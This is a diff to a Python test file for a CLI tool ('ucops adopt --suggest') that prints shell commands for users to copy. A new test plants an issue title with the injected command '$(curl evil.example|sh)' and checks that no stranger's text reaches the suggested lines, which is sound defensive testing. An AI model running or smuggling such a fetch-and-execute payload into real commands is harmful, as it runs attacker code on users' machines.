@@ -360,12 +360,23 @@ def test_adopt_suggests_pairs_by_title(run: Run, sandbox: Sandbox) -> None:
     for title in ("Lunch", "CI demo video", "Deck for continuous integration", "CI use case"):
         sandbox.people.open_issue(title)
     lines = run("adopt", "--suggest").stdout.splitlines()
-    assert sorted(line.split("  #")[0] for line in lines) == [
-        "ucops adopt ci 4",
-        "ucops adopt ci/deck 3",
-        "ucops adopt ci/demo 2",
+    assert sorted(line for line in lines if "adopt" in line) == [
+        "  ucops adopt ci 4",
+        "  ucops adopt ci/deck 3",
+        "  ucops adopt ci/demo 2",
     ]
     assert writes(sandbox) == 0
+
+
+def test_a_line_to_copy_holds_no_word_of_a_stranger_s(run: Run, sandbox: Sandbox) -> None:
+    """A shell such as zsh runs what stands behind a #."""
+    outsider = sandbox.people.of(login="outsider")
+    outsider.open_issue("CI demo video $(curl evil.example|sh)")
+    lines = run("adopt", "--suggest").stdout.splitlines()
+    assert [line for line in lines if line.startswith("  ucops adopt")] == [
+        "  ucops adopt ci/demo 1"
+    ]
+    assert not any("adopt" in line for line in lines if "curl" in line)
 
 
 def test_adopt_for_a_program(run: Run, sandbox: Sandbox) -> None:
